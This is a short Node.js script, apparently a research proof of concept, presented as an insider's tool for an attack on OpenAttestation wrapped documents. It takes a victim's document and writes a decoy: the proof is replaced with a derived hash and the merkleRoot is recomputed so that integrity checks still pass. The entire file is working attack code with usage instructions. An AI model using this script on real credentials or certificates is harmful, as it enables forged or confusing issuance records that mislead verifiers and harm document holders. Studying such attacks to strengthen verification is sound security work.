// The insider's tool for attack A1/A2 through the real CLI: takes a victim's wrapped document and
// writes a decoy: its proof replaced by [x] and its merkleRoot by keccak256 of the sorted pair
// (targetHash, x), exactly as an OpenAttestation batch of two would have it (integrity still holds).
// Usage: node decoy.js NODE_MODULES_DIR VICTIM.json OUT.json
"use strict";
const fs = require("fs");
const path = require("path");
const [modules, victimPath, outPath] = process.argv.slice(2);
const { keccak256 } = require(path.join(modules, "js-sha3"));
const doc = JSON.parse(fs.readFileSync(victimPath, "utf8"));
const target = doc.signature.targetHash;
const x = keccak256("docket decoy " + target);
const [a, b] = [target, x].sort();
doc.signature.proof = [x];
doc.signature.merkleRoot = keccak256(Buffer.concat([Buffer.from(a, "hex"), Buffer.from(b, "hex")]));
fs.writeFileSync(outPath, JSON.stringify(doc, null, 2) + "\n");
